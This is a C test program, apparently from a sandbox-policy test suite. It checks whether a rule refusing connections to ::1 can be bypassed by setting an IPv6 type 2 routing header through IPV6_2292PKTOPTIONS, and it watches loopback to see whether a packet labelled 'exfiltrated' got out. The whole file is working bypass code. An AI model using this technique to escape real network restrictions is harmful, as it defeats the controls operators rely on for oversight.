/* net_pktoptions: an IPv6 routing header set through IPV6_2292PKTOPTIONS.
 *
 * IPV6_RTHDR and IPV6_2292RTHDR (setsockopt and control messages) are refused under address
 * rules: a routing header sends the packet first to the address it holds
 * (fl6_update_dst), not to msg_name.  setsockopt(IPPROTO_IPV6, IPV6_2292PKTOPTIONS, buf)
 * sets the same sticky options from a buffer of control messages (do_ipv6_setsockopt ->
 * ip6_datagram_send_ctl), a routing header of type 2 among them where the kernel has
 * CONFIG_IPV6_MIP6 (most distribution kernels: a module); every later send of the socket
 * then goes to the header's address.
 *
 *   net_pktoptions MODE PORT
 *
 * Refused: ::1 (net-connect, any port); msg_name is 2001:db8::7 (permitted, routed nowhere:
 * only the routing header's ::1 makes the packet leave).  A packet socket on lo (ours, made
 * before the attack: the policy names socket) sees whether a packet to [::1]:PORT left.
 *
 * MODE: rh2     the routing header (type 2, home address ::1) by IPV6_2292PKTOPTIONS, then a
 *               UDP sendto 2001:db8::7 -- SKIPPED where the kernel refuses a type 2 header
 *               (EINVAL: no CONFIG_IPV6_MIP6)
 *       direct  UDP sendto [::1]:PORT: the rule and the witness at work
 * Every mode first says what setsockopt answered ("note: setsockopt ...").
 * Class 7 (network: source routes).  Needs CAP_NET_RAW for the witness.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip6.h>
#include <poll.h>
#include <sys/socket.h>

#ifndef IPV6_2292PKTOPTIONS
#define IPV6_2292PKTOPTIONS 6
#endif

static int witness_open(void) {
    int w = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ETH_P_IPV6));
    if (w < 0)
        return -1;
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IPV6),
                             .sll_ifindex = (int)if_nametoindex("lo")};
    if (bind(w, (struct sockaddr *)&ll, sizeof ll) < 0)
        return -1;
    return w;
}

/* an IPv6 packet for [::1] carrying a UDP datagram for port (after any extension header) */
static int witness_saw(int w, int port, double seconds) {
    double until = now_s() + seconds;
    unsigned char buf[2048];
    while (now_s() < until) {
        struct pollfd p = {.fd = w, .events = POLLIN};
        poll(&p, 1, 50);
        ssize_t n;
        while ((n = recv(w, buf, sizeof buf, 0)) > 0) {
            struct ip6_hdr *ip = (struct ip6_hdr *)buf;
            if (n < (ssize_t)sizeof *ip || !IN6_IS_ADDR_LOOPBACK(&ip->ip6_dst))
                continue;
            unsigned char next = ip->ip6_nxt, *at = buf + sizeof *ip;
            while (next == IPPROTO_ROUTING || next == IPPROTO_DSTOPTS ||
                   next == IPPROTO_HOPOPTS) {
                if (at + 2 > buf + n)
                    break;
                next = at[0];
                at += (at[1] + 1) * 8;
            }
            if (next == IPPROTO_UDP && at + 4 <= buf + n && ((at[2] << 8) | at[3]) == port)
                return 1;
        }
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_pktoptions MODE PORT");
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    int w = witness_open();
    if (w < 0)
        skipped("no packet socket to watch lo: %s", ename(errno));
    int s = socket(AF_INET6, SOCK_DGRAM, 0);
    if (s < 0)
        skipped("no IPv6 UDP socket: %s", ename(errno));
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    char msg[] = "exfiltrated";
    if (!strcmp(mode, "direct")) {
        note("setsockopt: not called");
        inet_pton(AF_INET6, "::1", &to.sin6_addr);
    } else if (!strcmp(mode, "rh2")) {
        /* one control message: IPV6_RTHDR, a type 2 header (RFC 6275) holding ::1 */
        unsigned char buf[CMSG_SPACE(24)];
        memset(buf, 0, sizeof buf);
        struct cmsghdr *c = (struct cmsghdr *)buf;
        c->cmsg_level = IPPROTO_IPV6;
        c->cmsg_type = IPV6_RTHDR;
        c->cmsg_len = CMSG_LEN(24);
        unsigned char *rh = CMSG_DATA(c);
        rh[0] = 0;    /* next header: filled by the kernel */
        rh[1] = 2;    /* length in 8-byte units beyond the first: 16 bytes of address */
        rh[2] = 2;    /* type 2 */
        rh[3] = 1;    /* segments left */
        inet_pton(AF_INET6, "::1", rh + 8);
        int rc = setsockopt(s, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, buf, sizeof buf);
        note("setsockopt: %s", rc < 0 ? ename(errno) : "ok");
        if (rc < 0 && errno == EINVAL)
            skipped("the kernel takes no type 2 routing header (no CONFIG_IPV6_MIP6)");
        if (rc < 0)
            blocked("setsockopt(IPV6_2292PKTOPTIONS): %s", ename(errno));
        inet_pton(AF_INET6, "2001:db8::7", &to.sin6_addr);
    } else {
        usage("MODE: rh2 direct");
    }
    if (sendto(s, msg, sizeof msg, 0, (struct sockaddr *)&to, sizeof to) < 0)
        blocked("%s: sendto: %s", mode, ename(errno));
    if (witness_saw(w, port, 1.0))
        escaped("%s: a packet left for the refused [::1]:%d", mode, port);
    blocked("%s: the call ran, but no packet left for ::1", mode);
}
